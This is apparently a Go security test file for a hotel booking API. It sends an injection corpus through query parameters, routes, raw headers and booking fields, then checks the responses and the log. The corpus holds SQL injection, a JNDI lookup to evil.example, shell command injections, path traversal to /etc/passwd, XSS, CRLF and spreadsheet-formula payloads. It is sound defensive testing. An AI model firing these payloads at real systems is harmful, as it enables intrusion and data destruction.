package main

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"
	"golang.org/x/text/unicode/norm"

	"hotelbooking/store/storetest"
)

func injectionsOnSQLite(g *guard) { injections(g, fortify(g, "")) }

func injectionsOnPostgres(g *guard) { injections(g, fortify(g, storetest.PostgresSchema(g.T))) }

// corpus are texts that are code to somebody: to a database, a shell, a template, a page, a spreadsheet, a log, or a terminal.
func corpus() []string {
	return []string{
		"'", "''", "\"", "`", "\\", "\\'", "' OR '1'='1", "' OR 1=1 --", "') OR ('1'='1", "1; DROP TABLE bookings; --", "'; UPDATE places SET status='confirmed' --",
		"' UNION SELECT sealed FROM people --", "x' AND (SELECT pg_sleep(9)) IS NULL --", "' AND 1=randomblob(900000000) --", "$1", "?", ":id", "@p1", "%", "_", "%%%", "*",
		"\x00", "a\x00b", "\x01\x02\x7f", "\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "\u202egnp.exe", "\ufeff", "\u0000", "𝒜𝓃𝒶", "e\u0301", "İıſK", strings.Repeat("\u0301", 200),
		"\r\nSet-Cookie: s=1", "\r\n\r\n<html>", "a\nlevel=fatal", "\",\"level\":\"fatal\",\"msg\":\"owned", "{\"level\":\"fatal\"}", "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07",
		"%s%s%s%n", "%!d(string=x)", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "$(reboot)", "`reboot`", "| reboot", "; reboot", "../../../../etc/passwd",
		"..\\..\\boot.ini", "file:///etc/passwd", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0",
		"null", "undefined", "NaN", "true", "[]", "{}", "0", "-1", "1e309", "18446744073709551616", "0x10", "2027-99-99", "-0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z",
		"a@b", "@", "canary@b@c", strings.Repeat("A", 300), strings.Repeat("'", 300), strings.Repeat("é", 3000), strings.Repeat("[", 1000),
	}
}

// harmless are the answers that a request may have that means nothing.
var harmless = []int{200, 202, 204, 304, 400, 401, 404, 409, 422, 431}

func injections(g *guard, f *fortress) {
	b := f.atRest(order{})
	f.call("POST", "/v1/support/bookings/"+b.ID+"/actions/note", f.keys["ada"], `{"reason":"the only one that there is"}`).is(http.StatusAccepted)
	routes := slices.Sorted(maps.Keys(policies()))
	for i, text := range corpus() {
		escaped := url.QueryEscape(text)
		for _, name := range []string{"q", "status", "attention", "created_after", "cursor", "limit", "sort", text} {
			a := f.call("GET", "/v1/support/bookings?"+url.QueryEscape(name)+"="+escaped, f.keys["vera"], "")
			g.holds(slices.Contains(harmless, a.status), "%s=%q: %d %s", name, text, a.status, a.body)
			if name == "q" && a.status == http.StatusOK {
				g.equal(strings.TrimSpace(text) == "", strings.Contains(string(a.body), b.ID), "%q finds what it does not name", text)
			}
		}
		a := f.call("GET", "/v1/bookings?client_reference="+escaped, f.keys["web"], "")
		g.holds(slices.Contains(harmless, a.status) && !strings.Contains(string(a.body), b.ID), "client_reference=%q: %d", text, a.status)
		for j, route := range routes {
			if !strings.Contains(route, "/:") || (i+j)%3 != 0 { // each text on a third of the routes
				continue
			}
			method, path := address(route, "PLACE")
			path = strings.Replace(strings.Replace(path, "PLACE", url.PathEscape(text), 1), "webhooks/sandbox", "webhooks/"+url.PathEscape(text), 1)
			key := f.keys["sue"]
			if strings.Contains(policies()[route].access, "booking") && !strings.HasPrefix(policies()[route].access, "support") {
				key = f.keys["web"]
			}
			a := f.call(method, path, key, policies()[route].body)
			g.holds(a.status >= 400 && a.status < 500, "%s %q: %d %s", route, text, a.status, a.body)
		}
	}
	if f.cfg.Database.URL == "" { // no header reaches the database
		injectedHeaders(g, f, b)
	}
	injectedFields(g, f)
	g.equal("confirmed", f.call("GET", "/v1/bookings/"+b.ID, b.ClientSecret, "").is(http.StatusOK).booking().Status)
	g.lacks("the log", f.log.String(), "fatal", "owned", "evil.example", "\x1b[", "onerror", "DROP TABLE", "passwd")
}

// injectedHeaders says each text in each header of whose value something is made.
func injectedHeaders(g *guard, f *fortress, b bookingView) {
	for i, text := range corpus() {
		for j, name := range []string{"X-Request-Id", "If-None-Match", "Prefer", "Last-Event-Id", "Authorization", "User-Agent", "Accept", "Idempotency-Key", "Content-Type", "Expect", "Range"} {
			if (i+j)%3 != 0 {
				continue
			}
			connection := "Connection: close\r\nAuthorization: Bearer " + b.ClientSecret
			if name == "Authorization" {
				connection = "Connection: close"
			}
			a := g.raw(f.base, fmt.Sprintf("GET /v1/bookings/%s HTTP/1.1\r\nHost: booking\r\n%s: %s\r\n%s\r\n\r\n", b.ID, name, text, connection))
			g.holds(slices.Contains(append(harmless, 417), a.status), "%s: %q: %d %s", name, text, a.status, a.body)
			require.Empty(g.T, a.header.Get("Set-Cookie"), "%s: %q", name, text)
		}
	}
}

// injectedFields stores each text where a submission takes it, and reads the same text back.
func injectedFields(g *guard, f *fortress) {
	taken := 0
	for _, text := range corpus() {
		if !json.Valid([]byte(quoted(text))) || len(text) > 300 {
			continue
		}
		body := order{}.json()
		for at, name := range map[*[]any]string{{}: "client_reference", {"stay"}: "hotel_name", {"stay", "rooms", 0}: "special_requests", {"attribution"}: "click_id"} {
			a := f.call("POST", "/v1/bookings", f.keys["web"], with(f, body, *at, name, text), "Idempotency-Key", uuid.NewString())
			g.holds(a.status == 202 || a.status == 422, "%s %q: %d %s", name, text, a.status, a.body)
			if a.status == http.StatusAccepted && name == "hotel_name" {
				taken++
				seen := f.call("GET", "/v1/support/bookings/"+a.booking().ID, f.keys["sue"], "").is(http.StatusOK)
				var view struct {
					Stay struct {
						HotelName string `json:"hotel_name"`
					}
				}
				require.NoError(g.T, json.Unmarshal(seen.body, &view))
				g.equal(norm.NFC.String(strings.TrimSpace(text)), view.Stay.HotelName, "it is a text and nothing else")
				g.equal("application/json", seen.header.Get("Content-Type"))
			}
		}
	}
	g.holds(taken > 30, "only %d texts were taken", taken)
}

func quoted(text string) string {
	out, err := json.Marshal(text)
	if err != nil || strings.ContainsRune(text, '\ufffd') || strings.Contains(string(out), `\ufffd`) {
		return ""
	}
	return string(out)
}
